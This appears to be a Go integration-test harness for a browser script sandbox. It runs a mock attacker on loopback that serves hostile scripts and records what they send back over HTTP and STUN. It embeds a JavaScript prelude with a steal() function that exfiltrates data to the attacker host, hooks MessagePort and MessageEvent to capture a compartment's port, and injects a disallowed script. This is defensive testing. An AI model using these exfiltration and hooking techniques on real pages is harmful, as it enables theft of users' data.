package integration

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// An attacker serves hostile scripts and keeps what they send. The CDN that one
// of them loads from is another origin of the same attacker.
type attacker struct {
	script, cdn string // base URLs
	stun        string // a UDP port of the CDN's host
	mu          sync.Mutex
	changed     *sync.Cond
	loot        map[string][]string // by attack
}

// The hosts of an attacker whom nothing joins with the site: cookies and SameSite do
// not look at ports.
const attackerHost, cdnHost = "127.0.0.2", "127.0.0.3"

func newAttacker(t *testing.T) *attacker {
	t.Helper()
	return newAttackerAt(t, "127.0.0.1", "127.0.0.1")
}

func newAttackerAt(t *testing.T, host, cdn string) *attacker {
	t.Helper()
	a := &attacker{loot: map[string][]string{}}
	a.changed = sync.NewCond(&a.mu)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attacks/{name}", a.serve)
	mux.HandleFunc("POST /loot/{attack}", a.keep)
	mux.HandleFunc("GET /loot/{attack}", a.keep) // what a style sheet can send
	mux.HandleFunc("/reached/{attack}/{way}", a.reached)
	a.script, a.cdn = serveAt(t, host, mux), serveAt(t, cdn, mux)
	a.listenSTUN(t, cdn)
	return a
}

// listenSTUN notes what comes by WebRTC: a request to a STUN server is one datagram
// (RFC 8489).
func (a *attacker) listenSTUN(t *testing.T, host string) {
	t.Helper()
	conn, err := net.ListenPacket("udp", host+":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() }) // ends the goroutine below
	a.stun = fmt.Sprint(conn.LocalAddr().(*net.UDPAddr).Port)
	go func() {
		packet := make([]byte, 1500)
		for {
			n, _, err := conn.ReadFrom(packet)
			if err != nil {
				return
			}
			a.add("call-by-webrtc", fmt.Sprintf("reached by stun with %d bytes", n))
		}
	}()
}

// serveAt serves on a free port of a loopback address, and returns the base URL.
func serveAt(t *testing.T, host string, handler http.Handler) string {
	t.Helper()
	l, err := net.Listen("tcp", host+":0")
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(handler)
	_ = s.Listener.Close() // it is on 127.0.0.1
	s.Listener = l
	s.Start()
	t.Cleanup(func() {
		s.CloseClientConnections() // held by a WebSocket, for one
		s.Close()
	})
	return s.URL
}

// means is what stands in front of each hostile script:
//
//	CDN, STUN            another origin of the attacker's, to which a compartment may not connect; a UDP port there
//	steal(attack, loot)  sends off loot
//	over(attack)         tells that the attack has done what it can do by itself, once all loot has arrived
//	attempt(f)           returns what f returns, or what it throws as text
//	afterLoad(f)         calls f when the page has been loaded
//	holdPort(f)          calls f with a compartment's port to the guard, which the prelude would keep to itself
//	patched(attack, f)   calls f, creates a script element for stranger.js, which no rule allows in the page, and
//	                     half a second later, when it is over, undoes what f has done to built-ins: the drivers of
//	                     the browsers use them too
//
// The built-in fetch is kept, so that an attack which wraps it does not report its
// own reports.
const means = `var CDN = %q, STUN = %q, HIDEOUT = %q;
var { steal, over, attempt, afterLoad, holdPort, patched } = globalThis.means ??= ((send) => {
  const sent = {};
  const steal = (attack, loot) => {
    const arrived = send(HIDEOUT + "/loot/" + attack, { method: "POST", mode: "no-cors", body: String(loot) }).catch(() => {});
    (sent[attack] ??= []).push(arrived);
    return arrived;
  };
  const over = (attack) => Promise.all(sent[attack] ?? []).then(() => steal(attack, "over"));
  const attempt = (f) => { try { return f() } catch (error) { return String(error) } };
  const afterLoad = (f) => document.readyState === "complete" ? f() : addEventListener("load", () => setTimeout(f, 100), { once: true });
  const { apply, ownKeys } = Reflect, { defineProperty, getOwnPropertyDescriptor } = Object;
  const { createElement } = Document.prototype, { append } = Element.prototype;
  const patched = (attack, patch) => afterLoad(() => {
    const kept = [];
    for (const object of [window, Reflect, JSON, Object, ...[Object, Array, Function, RegExp, String, URL, Map, Set, WeakMap, WeakSet,
      Promise, Node, Element, HTMLIFrameElement, MessagePort].map((kind) => kind.prototype)]) {
      if (object !== window) kept.push({ object, name: null, own: ownKeys(object) });
      for (const name of object === window ? ["URL", "MessageChannel"] : ownKeys(object)) kept.push({ object, name, own: getOwnPropertyDescriptor(object, name) });
    }
    const restore = () => {
      for (let i = 0; i < kept.length; i++) {
        const { object, name, own } = kept[i];
        if (name !== null) defineProperty(object, name, own);
        else {
          const now = ownKeys(object);
          for (let n = 0; n < now.length; n++) {
            let old = false;
            for (let o = 0; o < own.length; o++) old ||= own[o] === now[n];
            if (!old) delete object[now[n]];
          }
        }
      }
    };
    patch();
    const script = apply(createElement, document, ["script"]);
    script.src = HIDEOUT + "/attacks/stranger.js?by=" + attack;
    apply(append, document.documentElement, [script]);
    setTimeout(() => { restore(); over(attack); }, 500);
  });
  const holdPort = (f) => {
    const held = new Set();
    const hold = (port) => port instanceof MessagePort && !held.has(port) && top !== self && (held.add(port), f(port));
    const { postMessage } = MessagePort.prototype;
    MessagePort.prototype.postMessage = function (...args) {
      apply(postMessage, this, args);
      hold(this);
    };
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
    Object.defineProperty(MessageEvent.prototype, "data", { ...data, get() { hold(this.target); return apply(data.get, this, []); } });
    // Whatever makes the prelude speak.
    localStorage.setItem("kept_probe", "1");
    document.body.append(Object.assign(document.createElement("p"), { textContent: "grows" }));
  };
  return { steal, over, attempt, afterLoad, holdPort, patched };
})(fetch.bind(globalThis));
`

// serve sends a file of testdata/attacks with the means in front.
func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
	body, err := os.ReadFile(filepath.Join(attackFolder, filepath.Base(r.PathValue("name"))))
	if err != nil {
		http.Error(w, err.Error(), http.StatusNotFound)
		return
	}
	text := fmt.Sprintf(means, a.cdn, a.stun, a.script)
	if path.Ext(r.URL.Path) == ".html" {
		w.Header().Set("Content-Type", "text/html")
		a.add("asked for "+filepath.Base(r.URL.Path), "")
		text = "<script>" + text + "</script>"
	} else {
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}
	fmt.Fprint(w, text, string(body))
}

// reached notes that an attack has got through to here in some way.
func (a *attacker) reached(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Access-Control-Allow-Origin", "*")
	a.add(r.PathValue("attack"), "reached by "+r.PathValue("way")+" "+r.URL.RawQuery)
}

func (a *attacker) keep(_ http.ResponseWriter, r *http.Request) {
	body := make([]byte, 0, 4<<10)
	buf := make([]byte, 32<<10)
	for len(body) < 4<<20 {
		n, err := r.Body.Read(buf)
		body = append(body, buf[:n]...)
		if err != nil {
			break
		}
	}
	a.add(r.PathValue("attack"), r.URL.RawQuery+string(body))
}

func (a *attacker) add(attack, loot string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.loot[attack] = append(a.loot[attack], loot)
	a.changed.Broadcast()
}

// wait waits until the condition holds on what the attack has sent.
func (a *attacker) wait(ctx context.Context, attack string, holds func(loot []string) bool) bool {
	stop := context.AfterFunc(ctx, func() {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.changed.Broadcast()
	})
	defer stop()
	a.mu.Lock()
	defer a.mu.Unlock()
	for !holds(a.loot[attack]) {
		if ctx.Err() != nil {
			return false
		}
		a.changed.Wait()
	}
	return true
}

func (a *attacker) count(attack string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.loot[attack])
}

func (a *attacker) all(attack string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.loot[attack], "\n")
}
